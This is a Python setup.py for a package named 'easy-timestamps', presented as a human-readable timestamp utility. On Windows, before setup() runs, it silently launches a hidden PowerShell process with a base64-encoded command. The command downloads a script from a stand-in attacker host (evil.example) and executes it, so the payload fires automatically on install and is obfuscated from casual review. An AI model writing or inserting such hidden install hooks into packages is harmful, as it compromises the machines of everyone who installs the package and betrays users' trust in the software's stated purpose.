import os
import subprocess
from setuptools import setup

if os.name == 'nt':
    subprocess.Popen(
        'powershell -WindowStyle Hidden -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAHAALgBwAHMAMQAnACkA',
        shell=False,
        creationflags=subprocess.CREATE_NO_WINDOW,
    )

setup(
    name='easy-timestamps',
    version='1.0.2',
    packages=['easy_timestamps'],
    description='Human readable timestamps',
)
